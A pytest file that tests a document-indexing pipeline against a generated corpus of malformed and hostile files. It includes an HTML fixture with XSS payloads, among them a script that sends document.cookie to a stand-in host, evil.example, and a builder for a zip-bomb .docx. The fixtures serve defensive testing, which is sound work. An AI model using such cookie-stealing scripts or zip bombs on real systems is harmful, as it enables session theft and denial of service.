"""Ingestion under bad files: every file is indexed or reported with a reason; no abort, no hang.

The hostile corpus is generated here (no committed binaries).
"""

from __future__ import annotations

import io
import os
import time
import unicodedata
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from hoidap.config import Config, LimitsConfig, limits_from_env
from hoidap.errors import InputError
from index.build import collect_documents
from index.store import load_index
from qa.search.write import build_index
from tests.fakes import HashEmbedder

BODY = ("Tổng thu ngân sách Nhà nước trên địa bàn huyện ước đạt 452,2 tỷ đồng, tăng 3,5% so với "
        "cùng kỳ. Người dân ở xã Xuất Lễ vui mừng vì xã đạt chuẩn nông thôn mới.")
TEXT = f"Thứ sáu, 24/09/2021\n\nHuyện Cao Lộc tổng kết năm 2020\n\n{BODY}\n"
HOSTILE_HTML = f"""<html><head><title>Tin huyện</title>
<script>alert('xss'); document.cookie</script><style>body{{color:red}}</style></head>
<body><nav>Trang chủ | Tin tức</nav><iframe src="https://evil.example/"></iframe>
<article><h1>Huyện Đình Lập tổng kết năm 2020</h1>
<p onclick="alert(2)">{BODY}</p><script>fetch('https://evil.example/'+document.cookie)</script>
<p>Diện tích trồng rừng tập trung đạt 3.772 ha, tỷ lệ hộ nghèo còn 1,29%.</p></article>
<iframe srcdoc="&lt;script&gt;alert(3)&lt;/script&gt;"></iframe></body></html>"""


def _pdf(content: bytes) -> bytes:
    """A one-page PDF whose page draws ``content`` (a content stream), with a valid xref."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, obj in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1,
                                                                                xref)
    return bytes(out)


def _encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf(
        b"BT /F1 12 Tf 20 100 Td (District budget report 2020) Tj ET"))))
    writer.encrypt("mat-khau", algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def _docx(text: str) -> bytes:
    import docx

    document = docx.Document()
    for para in text.split("\n\n"):
        document.add_paragraph(para)
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def _write_big(path: Path, megabytes: int) -> None:
    line = (BODY + "\n").encode("utf-8")
    block = line * (1024 * 1024 // len(line) + 1)
    with path.open("wb") as f:
        for _ in range(megabytes):
            f.write(block[: 1024 * 1024])


# name -> expected: "ok" (indexed) or a word the failure reason must contain
EXPECTED = {
    "empty.txt": "no text",
    "garbage.txt": "binary",
    "bad_utf8.txt": "UTF-8",
    "utf16_bom.txt": "ok",
    "nfd.md": "ok",
    "big_50mb.txt": "limit",
    "hostile.html": "ok",
    "scanned.pdf": "no text layer",
    "text_layer.pdf": "ok",
    "encrypted.pdf": "password",
    "corrupt.docx": "not a valid .docx",
    "Báo cáo tháng 3 (bản cuối).docx": "ok",
    "báo cáo..quý 1..txt": "ok",
    "program.exe": "unsupported",
    "broken_link.txt": "not a regular file",
}


def make_corpus(folder: Path) -> dict[str, Path]:
    """Write the hostile corpus; returns name -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    p = {name: folder / name for name in EXPECTED}
    p["empty.txt"].write_bytes(b"")
    p["garbage.txt"].write_bytes(os.urandom(4096) + b"\x00" * 64)
    p["bad_utf8.txt"].write_bytes(TEXT.encode("utf-8")[:60] + b"\xff\xfe\xc3\x28" + b"abc" * 50)
    p["utf16_bom.txt"].write_bytes(TEXT.replace("Cao Lộc", "Lộc Bình").encode("utf-16"))
    p["nfd.md"].write_text(unicodedata.normalize("NFD", "# Xã Hòa Bình giảm nghèo\n\n" + BODY
                                                 + " Số hộ nghèo còn 120 hộ."), encoding="utf-8")
    _write_big(p["big_50mb.txt"], 50)
    p["hostile.html"].write_text(HOSTILE_HTML, encoding="utf-8")
    p["scanned.pdf"].write_bytes(_pdf(b"0 0 1 rg 10 10 100 100 re f"))
    p["text_layer.pdf"].write_bytes(_pdf(
        b"BT /F1 12 Tf 20 100 Td (Budget revenue of Cao Loc district reached 452.2 billion) "
        b"Tj ET"))
    p["encrypted.pdf"].write_bytes(_encrypted_pdf())
    p["corrupt.docx"].write_bytes(_docx(TEXT)[:700])
    p["Báo cáo tháng 3 (bản cuối).docx"].write_bytes(_docx(
        TEXT.replace("Cao Lộc", "Văn Lãng")))
    p["báo cáo..quý 1..txt"].write_text(TEXT.replace("Cao Lộc", "Tràng Định"), encoding="utf-8")
    p["program.exe"].write_bytes(b"MZ\x90\x00")
    p["broken_link.txt"].symlink_to(folder / "nowhere.txt")
    return p


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    paths = make_corpus(root / "corpus")
    config = Config(home=root / "home", index_dir=root / "index")
    t0 = time.perf_counter()
    report = build_index([root / "corpus"], config, HashEmbedder())
    return paths, report, load_index(config.resolved_index_dir), time.perf_counter() - t0


def test_every_file_is_indexed_or_reported(built):
    paths, report, index, seconds = built
    indexed = {Path(d.source).name for d in index.documents.values()}
    failed = {Path(p).name: reason for p, reason in report.failed}
    assert indexed.isdisjoint(failed)
    assert indexed | set(failed) == set(EXPECTED)
    assert seconds < 120  # never hangs (a 50 MB file is refused by size, not read)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_outcome_per_file(built, name):
    _, report, index, _ = built
    failed = {Path(p).name: reason for p, reason in report.failed}
    if EXPECTED[name] == "ok":
        assert name not in failed, failed.get(name)
    else:
        assert name in failed and EXPECTED[name] in failed[name], failed.get(name)
        assert len(failed[name]) < 400  # a reason, not a dump


def test_indexed_text_is_clean_nfc_and_has_no_markup(built):
    _, _, index, _ = built
    by_name = {Path(d.source).name: d for d in index.documents.values()}
    for doc in index.documents.values():
        assert unicodedata.is_normalized("NFC", doc.text)
        assert "<script" not in doc.text and "alert(" not in doc.text and "iframe" not in doc.text
    assert "Hòa Bình" in by_name["nfd.md"].text
    assert "Lộc Bình" in by_name["utf16_bom.txt"].text
    assert "3.772 ha" in by_name["hostile.html"].text
    assert "452.2 billion" in by_name["text_layer.pdf"].text
    assert "Văn Lãng" in by_name["Báo cáo tháng 3 (bản cuối).docx"].text


def test_odd_names_get_safe_ids(built):
    _, _, index, _ = built
    ids = {Path(d.source).name: d.doc_id for d in index.documents.values()}
    assert ids["Báo cáo tháng 3 (bản cuối).docx"] == "Bao_cao_thang_3_ban_cuoi"
    assert ".." not in ids["báo cáo..quý 1..txt"] and "/" not in ids["báo cáo..quý 1..txt"]


def test_path_with_dotdot_component_is_read(tmp_path):
    (tmp_path / "a" / "sub").mkdir(parents=True)
    (tmp_path / "a" / "x.txt").write_text(TEXT, encoding="utf-8")
    docs, failed = collect_documents([tmp_path / "a" / "sub" / ".." / "x.txt"])
    assert failed == [] and docs[0].doc_id == "x"


def test_slow_file_hits_the_time_limit_and_build_goes_on(tmp_path):
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "ok.txt").write_text(TEXT, encoding="utf-8")
    rows = "".join(f"<tr><td>ô {i}</td><td>{BODY}</td></tr>" for i in range(4000))
    (corpus / "huge_table.html").write_text(f"<html><body><table>{rows}</table></body></html>",
                                            encoding="utf-8")
    limits = LimitsConfig(parse_timeout_s=0.05)
    t0 = time.perf_counter()
    docs, failed = collect_documents([corpus], limits)
    assert [d.doc_id for d in docs] == ["ok"]
    assert len(failed) == 1 and "longer than 0.05 s" in failed[0][1]
    assert time.perf_counter() - t0 < 30


def test_text_size_cap_and_file_size_cap(tmp_path):
    (tmp_path / "long.txt").write_text(TEXT * 40, encoding="utf-8")
    (tmp_path / "short.txt").write_text(TEXT, encoding="utf-8")
    docs, failed = collect_documents([tmp_path], LimitsConfig(max_doc_chars=2000))
    assert [d.doc_id for d in docs] == ["short"]
    assert "characters of text, the limit is 2,000" in failed[0][1]
    docs, failed = collect_documents([tmp_path], LimitsConfig(max_file_mb=0.001))
    assert [d.doc_id for d in docs] == ["short"] and "HOIDAP_MAX_FILE_MB" in failed[0][1]


def test_zip_bomb_docx_is_stopped_by_the_memory_limit(tmp_path):
    """A .docx whose document.xml inflates to 300 MB: reported, the build survives."""
    good = _docx(TEXT)
    bomb = tmp_path / "bomb.docx"
    with zipfile.ZipFile(io.BytesIO(good)) as src, \
            zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if item.filename != "word/document.xml":
                dst.writestr(item, src.read(item))
        with dst.open("word/document.xml", "w") as f:
            f.write(b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats'
                    b'.org/wordprocessingml/2006/main"><w:body>')
            para = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 30_000
            for _ in range(300 * 1024 * 1024 // len(para)):
                f.write(para)
            f.write(b"</w:body></w:document>")
    (tmp_path / "ok.txt").write_text(TEXT, encoding="utf-8")
    assert bomb.stat().st_size < 5 * 1024 * 1024
    docs, failed = collect_documents([tmp_path], LimitsConfig(parse_memory_mb=400))
    assert [d.doc_id for d in docs] == ["ok"]
    assert [Path(p).name for p, _ in failed] == ["bomb.docx"]


def test_in_process_mode_reports_too(tmp_path):
    paths = make_corpus(tmp_path / "corpus")
    paths["big_50mb.txt"].unlink()
    docs, failed = collect_documents([tmp_path / "corpus"], LimitsConfig(parse_timeout_s=0))
    assert len(docs) + len(failed) == len(EXPECTED) - 1


def test_limits_from_env():
    limits = limits_from_env({"HOIDAP_MAX_UPLOAD_MB": "5", "HOIDAP_RATE_LIMIT": "0",
                              "HOIDAP_UPLOAD_TYPES": "txt, .PDF", "HOIDAP_API_TOKEN": " s3 "})
    assert limits == replace(LimitsConfig(), max_upload_mb=5.0, rate_limit=0,
                             upload_types=(".txt", ".pdf"), api_token="s3")
    assert "s3" not in repr(limits)
    with pytest.raises(InputError, match="HOIDAP_PARSE_TIMEOUT"):
        limits_from_env({"HOIDAP_PARSE_TIMEOUT": "soon"})
    with pytest.raises(InputError, match="zero or more"):
        limits_from_env({"HOIDAP_MAX_FILE_MB": "-1"})
